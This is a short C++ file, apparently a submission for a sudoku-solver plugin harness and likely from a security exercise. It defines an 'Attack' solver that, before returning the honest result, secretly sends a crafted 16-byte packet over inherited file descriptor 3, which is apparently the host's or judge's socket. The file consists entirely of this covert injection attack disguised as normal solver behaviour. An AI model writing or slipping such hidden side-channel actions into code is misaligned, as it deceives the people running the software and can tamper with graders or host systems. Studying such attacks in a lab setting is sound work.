#include "attack.h"
#include <sys/socket.h>
class Attack : public Honest {
 public:
  using Honest::Honest;
  bool solve() override {
    const unsigned char packet[16] = {1, 32, 255, 255, 3, 0, 0, 0, 1, 0, 0, 0};
    ::send(3, packet, sizeof packet, 0);
    return Honest::solve();
  }
};

SUDOKU_EXPORT_SOLVER(Attack)
